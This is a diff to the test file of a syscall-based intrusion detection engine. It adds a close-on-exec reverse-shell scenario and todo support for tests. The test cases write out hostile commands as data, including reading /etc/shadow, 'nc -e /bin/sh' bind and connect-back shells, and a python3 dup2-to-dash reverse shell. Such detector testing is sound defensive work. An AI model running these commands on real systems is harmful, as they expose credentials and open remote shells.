@@ -70,13 +70,13 @@ function open(s, tid, name, flags, fd = 5) { return feed(s, 'SYSCALL_OPENAT_2_X'
 function tuple(dport) {
   const b = Buffer.alloc(13); b[0] = 2; b.writeUInt32BE(0x7f000001, 1); b.writeUInt16LE(40000, 5); b.writeUInt32BE(0xc000020a, 7); b.writeUInt16LE(dport, 11); return b;
 }
-function connect(s, tid, dport, fd = 3) {
-  feed(s, 'SOCKET_SOCKET_X', tid, { fd, domain: 2, type: 1, proto: 0, flags: 0 });
+function connect(s, tid, dport, fd = 3, flags = 0) {
+  feed(s, 'SOCKET_SOCKET_X', tid, { fd, domain: 2, type: 1, proto: 0, flags });
   feed(s, 'SOCKET_CONNECT_X', tid, { res: 0, tuple: tuple(dport), fd, addr: undefined });
 }
 
 const cases = [];
-function scenario(name, positive, rule, fn) { cases.push({ name, positive, rule, fn }); }
+function scenario(name, positive, rule, fn, todo) { cases.push({ name, positive, rule, fn, todo }); }
 
 scenario('cat /etc/shadow', true, 'Credential File Read by Unexpected Program', (s) => { const t = spawn(s, 100, 'cat', { args: ['/etc/shadow'] }); open(s, t, '/etc/shadow', O.RDONLY); });
 scenario('sshd /etc/shadow', false, 'Credential File Read by Unexpected Program', (s) => { const t = spawn(s, 100, 'sshd'); open(s, t, '/etc/shadow', O.RDONLY); });
@@ -89,6 +89,10 @@ scenario('dup2 socket to 0', true, 'Network Socket Redirected to Standard Stream
 scenario('dup2 socket to 10', false, 'Network Socket Redirected to Standard Stream', (s) => { const t = spawn(s, 100, 'python3'); connect(s, t, 4444); feed(s, 'SYSCALL_DUP2_X', t, { res: 10, oldfd: 3, newfd: 10 }); });
 scenario('xinetd dup2', false, 'Network Socket Redirected to Standard Stream', (s) => { const t = spawn(s, 100, 'xinetd'); connect(s, t, 4444); feed(s, 'SYSCALL_DUP2_X', t, { res: 0, oldfd: 3, newfd: 0 }); });
 scenario('reverse shell exec', true, 'Shell Started with Network Socket as Standard Stream', (s) => { const t = spawn(s, 100, 'python3'); connect(s, t, 4444); for (const n of [0, 1, 2]) feed(s, 'SYSCALL_DUP2_X', t, { res: n, oldfd: 3, newfd: n }); exec(s, t, 'sh', { exepath: '/bin/dash', args: ['-i'] }); });
+// Python (and most runtimes) create sockets close-on-exec; dup2 clears that flag on the
+// new descriptor, so the shell still has the socket as its stdio.
+scenario('reverse shell exec, close-on-exec socket', true, 'Shell Started with Network Socket as Standard Stream', (s) => { const t = spawn(s, 100, 'python3'); connect(s, t, 4444, 3, 4096); for (const n of [0, 1, 2]) feed(s, 'SYSCALL_DUP2_X', t, { res: n, oldfd: 3, newfd: n }); exec(s, t, 'sh', { exepath: '/bin/dash', args: ['-i'] }); },
+  'state: dup2 copies keep the source socket\'s close-on-exec flag, so execve drops them (dup2/dup never set it on the new fd)');
 scenario('nc -e', true, 'Netcat Started with Program Execution', (s) => { spawn(s, 100, 'nc', { args: ['-lvp', '4444', '-e', '/bin/sh'] }); });
 scenario('nc -zv', false, 'Netcat Started with Program Execution', (s) => { spawn(s, 100, 'nc', { args: ['-zv', '127.0.0.1', '22'] }); });
 scenario('busybox nc -e', true, 'Netcat Started with Program Execution', (s) => { spawn(s, 100, 'busybox', { args: ['nc', '10.0.0.1', '4444', '-e', '/bin/sh'] }); });
@@ -187,7 +191,7 @@ const CANNOT_FIRE_YET = new Map([
 
 const ruleNames = new Set(rules.map((r) => r.name));
 for (const c of cases) {
-  test(`${c.positive ? 'fires' : 'stays quiet'}: ${c.rule} (${c.name})`, () => {
+  test(`${c.positive ? 'fires' : 'stays quiet'}: ${c.rule} (${c.name})`, { todo: c.todo }, () => {
     assert.ok(ruleNames.has(c.rule), `no rule named ${c.rule}`);
     hits.length = 0;
     c.fn(state());
